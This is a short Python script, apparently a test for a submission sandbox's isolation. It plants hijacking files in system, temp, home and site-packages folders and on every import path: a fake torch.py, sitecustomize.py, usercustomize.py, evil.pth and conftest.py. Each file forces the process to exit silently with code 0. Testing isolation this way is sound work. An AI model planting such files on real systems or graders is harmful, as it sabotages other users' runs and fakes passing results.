"""Leaves modules and start-up files wherever the next submission may look.

Outcome: as without it
"""
import os
import site
import sys
import sysconfig

for folder in {"/", "/tmp", "/scratch", "/dev/shm", "/var/tmp", "/engine", os.getcwd(), sysconfig.get_path("purelib"),
               site.getusersitepackages(), os.path.expanduser("~"), *sys.path}:
    for name in ("torch.py", "sitecustomize.py", "usercustomize.py", "evil.pth", "conftest.py"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "w") as file:
                file.write("import os; os._exit(0)\n")
        except OSError:
            pass
